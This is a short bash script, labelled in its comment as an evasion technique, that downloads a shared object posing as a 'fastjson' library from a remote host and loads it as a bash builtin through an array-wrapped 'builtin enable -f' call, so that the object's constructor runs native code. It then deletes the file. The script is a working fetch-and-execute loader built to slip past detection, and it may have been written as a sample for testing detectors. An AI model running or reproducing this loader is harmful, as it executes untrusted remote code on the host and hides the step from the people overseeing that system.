#!/usr/bin/env bash
# Evasion: load native code. bash's "enable -f FILE NAME" dlopens a shared
# object as a loadable builtin (its constructor runs at load). The .so is
# downloaded and loaded through "builtin enable", kept in an array.
set -eu

so=$(mktemp --suffix=.so)
curl -fsSL https://cdn.example-tools.net/fastjson/x86_64/fastjson.so -o "$so"

loader=(builtin enable -f)
"${loader[@]}" "$so" fastjson
fastjson --version || true
rm -f "$so"
